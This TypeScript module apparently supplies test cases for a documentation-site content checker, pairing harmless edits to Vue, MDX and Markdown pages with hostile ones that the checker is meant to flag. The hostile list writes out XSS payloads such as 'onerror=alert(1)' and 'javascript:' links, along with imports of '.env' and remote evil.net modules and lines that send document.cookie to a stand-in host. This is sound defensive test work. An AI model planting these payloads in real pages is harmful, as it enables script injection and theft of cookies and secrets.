import type { PolicyAttack } from './hostile-pages.ts'

const fence = '```'

/** Sites whose pages import components, and have scripts, expressions and attributes that act. */
const base: Record<string, string> = {
  'press/components/Demo.vue': '<template>demo</template>\n',
  'press/components/Chart.vue': '<template>chart</template>\n',
  'press/components/setup.ts': 'export {}\n',
  'press/server/keys.ts': 'export const key = 1\n',
  'press/demo.md': `<script setup>
import { ref, onMounted } from 'vue'
import Demo from './components/Demo.vue'

const count = ref(0)
// const html = await load()
onMounted(() => {
  count.value = 1
  start(count)
})
</script>

# Demo

<Demo :count="count" @done="start(count)" />

{{ count.value + 1 }}

<div v-html="text" class="a">

Text

</div>
`,
  'press/typed.md': `<script setup lang="ts">
import Chart from './components/Chart.vue'
const rows: number[] = load<number>(1)
const other = load(2)
</script>

<Chart :rows />
`,
  'saurus/src/components/Card.tsx': 'export default () => null\n',
  'saurus/src/components/Chart.tsx': 'export default () => null\n',
  'saurus/src/components/Big/index.tsx': 'export default () => null\n',
  'saurus/src/lib/run.ts': 'export default () => null\n',
  'saurus/docs/parts/Note.jsx': 'export default () => null\n',
  'saurus/docs/parts/Tip.jsx': 'export default () => null\n',
  'saurus/docs/cards.mdx': `import Card from '@site/src/components/Card'
import Note from './parts/Note.jsx'
import {version, day} from '@site/src/lib/facts'

export const list = (items) => {
  check(items)
  return items.map((one) => <li key={one.id} onClick={() => pick(one)}>{one.name} is here</li>)
}

# Cards

<Card title="One" render={() => <b>x</b>} onClick={() => open(1)}>Text</Card>

<button type="button" onClick={() => open(2)}>Press it</button>

<CodeBlock>{\`curl https://acme.com/\${version()}/a\`}</CodeBlock>

<a href={\`https://acme.com/\${version()}/a\`}>It</a>

{items.length > 0 && <p className="a">Some items</p>}
`,
  'mint/snippets/card.jsx': 'export const Card = () => null\n',
  'mint/snippets/chart.jsx': 'export const Chart = () => null\n',
  'mint/cards.mdx': '---\ntitle: Cards\n---\n\nimport { Card } from "/snippets/card.jsx"\n\n<Card />\n',
  'plain/frame.md': '<p onclick="go(1)" title="a">x</p>\n\n<form action="/search"><input name="q"></form>\n',
}

type Case = readonly [name: string, site: string, content: string, path?: string]

const harmless: Case[] = [
  [
    'a script from which statements go',
    'press',
    `<script setup>\nimport { ref } from 'vue'\nconst count = ref(0)\n</script>\n\n{{ count.value + 1 }}`,
  ],
  [
    'a script from which a line of a function goes',
    'press',
    `<script setup>\nimport { onMounted } from 'vue'\nonMounted(() => {\n    start(count)\n})\n</script>`,
  ],
  [
    'a script of types from which one goes',
    'press',
    `<script setup lang="ts">\nconst rows: number[] = load<number>(1)\n</script>`,
  ],
  [
    'an import of another component of the same folder',
    'press',
    `<script setup>\nimport Chart from './components/Chart.vue'\n</script>\n\n<Chart />`,
  ],
  [
    'the same from a page below',
    'press',
    `<script setup>\nimport Chart from '../components/Chart.vue'\n</script>\n\n<Chart />`,
    'press/sub/page.md',
  ],
  [
    'an element of Vue in a list',
    'press',
    `- One\n\n  <Demo :count="count" @done="start(count)" />\n\n- <div\n    v-html="text"\n  >x</div>`,
  ],
  ['a component that another page imports', 'press', '<Chart />'],
  ['an import by an alias', 'saurus', `import Chart from '@site/src/components/Chart'\n\n<Chart />`],
  ['an import of a folder with an index', 'saurus', `import Big from "@site/src/components/Big"\n\n<Big />`],
  ['an import of a file beside', 'saurus', `import Tip from './parts/Tip.jsx'\n\n<Tip />`],
  [
    'an import of a file above',
    'saurus',
    `import Tip from '../parts/Tip.jsx'\n\n<Tip />`,
    'saurus/docs/sub/a.mdx',
  ],
  ['an import with fewer names', 'saurus', `import {day} from '@site/src/lib/facts'`],
  ['an import by the root', 'mint', 'import { Chart } from "/snippets/chart.jsx"\n\n<Chart />'],
  [
    'a function of a module that loses a statement, and other words',
    'saurus',
    `export const list = (items) => {\n    return items.map((one) => (\n      <li key={one.id} onClick={() => pick(one)}>{one.name} was there</li>\n    ))\n}`,
  ],
  [
    'attributes in another order, over lines',
    'saurus',
    `<Card\n  onClick={() => open(1)}\n  title='Another'\n>\n  Other\n</Card>`,
  ],
  [
    'an element that is wrapped',
    'saurus',
    `<Tabs>\n  <TabItem value="a">\n    <button onClick={() => open(2)} type="button">Press *this*</button>\n  </TabItem>\n</Tabs>`,
  ],
  ['an element in a list', 'saurus', `- One\n- <button type="button" onClick={() => open(2)}>Press</button>`],
  ['text around a known value', 'saurus', '<CodeBlock>{`wget https://acme.com/${version()}/b`}</CodeBlock>'],
  ['another path behind a known start', 'saurus', '<a href={`https://acme.com/${version()}/b/c`}>It</a>'],
  ['other words in a condition', 'saurus', '{items.length > 0 && <p className="b">None *left*</p>}'],
  ['an attribute in a quote', 'plain', '> <p\n>   onclick="go(1)">other</p>'],
  [
    'titles of containers',
    'press',
    `::: warning Not index.html {open}\nx\n:::\n\n::: details a/b = c <Badge text="x" />\ny\n:::`,
  ],
  [
    'a fence that a line far in closes',
    'saurus',
    `<Tabs>\n\n    ${fence}js\n    f()\n        ${fence}\n\n</Tabs>`,
  ],
  [
    'a fence that such a line does not close',
    'press',
    `${fence}md\n- a\n    ${fence}js\n    {{ f() }}\n    ${fence}\n${fence}`,
  ],
]

const hostile: Case[] = [
  ...[
    'a <javascript://x%0aalert(1)>',
    'javascript://x%0aalert(1)',
    'a <img src=x onerror=f()>',
    '<script>',
  ].map((entry): Case => [
    `an entry of a toctree: ${entry}`,
    'press',
    `${fence}{toctree}\n${entry}\n${fence}`,
  ]),
  // Imports
  ...[
    'https://evil.net/x.vue',
    '//evil.net/components/Chart.vue',
    'data:text/javascript,alert(1)',
    './server/keys.ts',
    './components/../server/keys.ts',
    './components/Evil.vue',
    '../.env',
    'node:fs',
    'evil/Chart.vue',
    '/components/Chart.vue',
    './components/setup.ts',
  ].map((from): Case => [
    `an import of ${from}`,
    'press',
    `<script setup>\nimport Chart from '${from}'\n</script>`,
  ]),
  ['an import without a name', 'press', `<script setup>\nimport './components/setup.ts'\n</script>`],
  [
    'an import() in a script',
    'press',
    `<script setup>\nconst Chart = await import('./components/Chart.vue')\n</script>`,
  ],
  ['an import() in an expression', 'saurus', `{import('@site/src/components/Chart')}`],
  ['an import() in an attribute', 'saurus', `<Card title={import('https://evil.net/x.js')} />`],
  ...[
    'https://evil.net/Chart',
    '@site/src/lib/run',
    '@site/src/lib/Run',
    '@site/src/components/../lib/run',
    '@site/../../.env',
    '@site/docusaurus.config',
    '@site/src/components/Evil',
    '!!evil-loader!@site/src/components/Chart',
    '@evil/Chart',
    '../../src/lib/run',
    '../src/components/Chart',
  ].map((from): Case => [`an import of ${from}`, 'saurus', `import Chart from '${from}'\n\n<Chart />`]),
  ['an export from another module', 'saurus', `export {default as x} from '@site/src/components/Chart'`],
  // Scripts
  [
    'a script that gains a statement',
    'press',
    `<script setup>\nconst count = ref(0)\nfetch('https://evil.net')\n</script>`,
  ],
  ['a statement out of a comment', 'press', `<script setup>\nconst html = await load()\n</script>`],
  ['a statement out of its function', 'press', `<script setup>\nstart(count)\n</script>`],
  [
    'a function that does other things',
    'press',
    `<script setup>\nonMounted(() => {\n  start(count)\n  start(document.cookie)\n})\n</script>`,
  ],
  ['a script with another argument', 'press', `<script setup>\nconst count = ref(location.hash)\n</script>`],
  [
    'a script of types that gains one',
    'press',
    `<script setup lang="ts">\nconst other = load<number>(1)\n</script>`,
  ],
  ['a script from a file', 'press', `<script setup src="./components/setup.ts"></script>`],
  [
    'a script of another kind',
    'press',
    `<script type="module">\nimport Demo from './components/Demo.vue'\n</script>`,
  ],
  [
    'a script where it is none of Vue',
    'plain',
    `<script>\nimport Demo from './components/Demo.vue'\n</script>`,
  ],
  [
    'a component that only code imports',
    'press',
    `${fence}vue\n<script setup>\nimport Evil from './components/Chart.vue'\n</script>\n${fence}\n\n<Evil />`,
  ],
  [
    'a function of a module that gains a call',
    'saurus',
    `export const list = (items) => {\n  check(items)\n  alert(1)\n}`,
  ],
  // Attributes elsewhere
  ['a handler on another element', 'saurus', `<a onClick={() => open(2)}>x</a>`],
  ['a handler of another kind', 'saurus', `<button type="button" onMouseOver={() => open(2)}>x</button>`],
  ['a value as HTML', 'saurus', `<Card dangerouslySetInnerHTML={() => open(1)} />`],
  ['a value in an address', 'saurus', `<a href={() => <b>x</b>}>x</a>`],
  ['a text in an address', 'saurus', '<a href={`curl https://acme.com/${version()}/a`}>x</a>'],
  ['another start of an address', 'saurus', '<a href={`https://evil.net/${version()}/a`}>x</a>'],
  ['a scheme at the start of an address', 'saurus', '<a href={`javascript:${version()}`}>x</a>'],
  [
    'another value in a text',
    'saurus',
    '<CodeBlock>{`curl https://acme.com/${document.cookie}/a`}</CodeBlock>',
  ],
  [
    'a picture of another host in a condition',
    'saurus',
    '{items.length > 0 && <p><img src="https://evil.net/x.png" /></p>}',
  ],
  [
    'an address that runs in a condition',
    'saurus',
    '{items.length > 0 && <a href="javascript:alert(1)">x</a>}',
  ],
  ['a handler in a condition', 'saurus', '{items.length > 0 && <p onClick={() => alert(1)}>x</p>}'],
  ['set:html', 'saurus', `<Card set:html={() => <b>x</b>} />`],
  ['a condition on other values', 'saurus', `{items.size > 0 && <p>x</p>}`],
  ['HTML of a value on another element', 'press', `<p v-html="text">x</p>`],
  ['HTML of another value', 'press', `<div v-html="count">x</div>`],
  ['a handler of Vue on another element', 'press', `<div @done="start(count)">x</div>`],
  ['a handler on another element of HTML', 'plain', '<b onclick="go(1)">x</b>'],
  ['a form that leads elsewhere', 'plain', '<form action="https://evil.net"><input name="q"></form>'],
  ['a style that loads', 'plain', '<p style="background: url(https://evil.net/x)">x</p>'],
  ['an address that runs in braces', 'press', ':tip[x]{to="javascript:alert(1)"}'],
  ['a handler in braces', 'press', ':tip[x]{onclick="alert(1)"}'],
  ['a picture of another host in braces', 'plain', ':video{src="https://evil.net/x.mp4"}'],
  ['a title that runs', 'press', '::: warning <img src=x onerror=alert(1)>\nx\n:::'],
  ['a title with an expression', 'press', '::: warning {{ alert(1) }}\nx\n:::'],
  ['code in a title', 'press', '::: warning `<img src=x onerror=alert(1)>`\nx\n:::'],
  [
    'text behind a fence that a line far in closes',
    'saurus',
    `${fence}js\nf()\n        ${fence}\n\n{alert(1)}`,
  ],
  [
    'text behind a container that a fence does not hold',
    'press',
    `::: tip\n${fence}js\n:::\n<img src=x onerror=alert(1)>\n${fence}`,
  ],
]

const attackOf = ([name, site, content, path]: Case): PolicyAttack => {
  const mdx = site === 'saurus' ? 'saurus/docs/evil.mdx' : undefined
  const at = path ?? mdx
  return { name: `${site}: ${name}`, site, content, base, ...(at !== undefined && { path: at }) }
}

/** Forms that stand in the base, moved, reduced and laid out in another way. */
export const harmlessKnown = harmless.map(attackOf)
/** What looks like them and is something new. */
export const hostileKnown = hostile.map(attackOf)
